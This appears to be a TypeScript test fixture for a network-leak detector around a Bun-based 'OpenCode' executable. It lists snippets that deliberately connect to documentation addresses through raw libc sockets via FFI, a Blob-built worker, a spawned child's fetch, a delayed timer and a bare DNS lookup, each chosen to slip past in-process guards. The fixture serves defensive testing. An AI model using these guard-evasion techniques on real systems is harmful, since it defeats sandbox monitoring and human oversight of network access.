export interface Leak {
  title: string
  code: string
  /** Seconds until it leaks, when not at once. */
  after?: number
  attempt: Record<string, unknown>
}

/**
 * Code that leaks on purpose, to be run inside an OpenCode executable ahead of its guard, and the attempt that must be
 * found of it. What is not Bun's own API is called in the C library, which no guard in the process can see.
 */
export const leaks: Leak[] = [
  {
    title: "raw TCP to an odd port",
    code: "send(AF_INET, STREAM, ipv4(203, 0, 113, 7), 47113)",
    attempt: { protocol: "tcp", family: 4, address: "203.0.113.7", port: 47_113 },
  },
  {
    title: "a single UDP datagram",
    code: "send(AF_INET, DATAGRAM, ipv4(203, 0, 113, 8), 9999)",
    attempt: { protocol: "udp", family: 4, address: "203.0.113.8", port: 9999, packets: 1 },
  },
  {
    title: "an IPv6 connection",
    code: "send(AF_INET6, STREAM, ipv6(0x2001, 0x0db8, 7), 443)",
    attempt: { protocol: "tcp", family: 6, address: "2001:db8::7", port: 443 },
  },
  {
    title: "a name lookup and nothing else",
    code: `Bun.dns.lookup("only-looked-up.example", { family: 4 }).catch(() => {})`,
    attempt: { protocol: "udp", port: 53, name: "only-looked-up.example" },
  },
  {
    title: "a connection from a worker",
    code: `new Worker(URL.createObjectURL(new Blob([\`
      import { connect } from "node:net"
      connect(2222, "203.0.113.9").on("error", () => {})
    \`], { type: "application/javascript" })))`,
    attempt: { protocol: "tcp", address: "203.0.113.9", port: 2222 },
  },
  {
    title: "a connection from a child",
    code: `Bun.spawn([process.execPath, "-e", "await fetch('http://203.0.113.10/from-a-child')"], {
      env: { ...process.env, BUN_BE_BUN: "1" }, stdio: ["ignore", "ignore", "ignore"],
    }).unref()`,
    attempt: { protocol: "tcp", address: "203.0.113.10", what: "http GET 203.0.113.10/from-a-child" },
  },
  {
    title: "a connection after four seconds",
    code: "setTimeout(() => send(AF_INET, STREAM, ipv4(203, 0, 113, 11), 8080), 4000)",
    after: 4,
    attempt: { protocol: "tcp", address: "203.0.113.11", port: 8080 },
  },
]

/** Put ahead of each leak. */
export const preamble = `// @bun
import { dlopen } from "bun:ffi"
const AF_INET = 2, AF_INET6 = 10, STREAM = 1, DATAGRAM = 2
const ipv4 = (...bytes) => Buffer.from(bytes)
const ipv6 = (first, second, last) => {
  const bytes = Buffer.alloc(16)
  bytes.writeUInt16BE(first, 0)
  bytes.writeUInt16BE(second, 2)
  bytes.writeUInt16BE(last, 14)
  return bytes
}
function send(family, type, address, port) {
  const { symbols } = dlopen("libc.so.6", {
    socket: { args: ["i32", "i32", "i32"], returns: "i32" },
    connect: { args: ["i32", "ptr", "u32"], returns: "i32" },
    send: { args: ["i32", "ptr", "u64", "i32"], returns: "i64" },
  })
  const destination = Buffer.alloc(28)
  destination.writeUInt16LE(family, 0)
  destination.writeUInt16BE(port, 2)
  destination.set(address, family === AF_INET ? 4 : 8)
  const socket = symbols.socket(family, type, 0)
  symbols.connect(socket, destination, family === AF_INET ? 16 : 28)
  if (type === DATAGRAM) symbols.send(socket, Buffer.from("leak"), 4, 0)
}
`
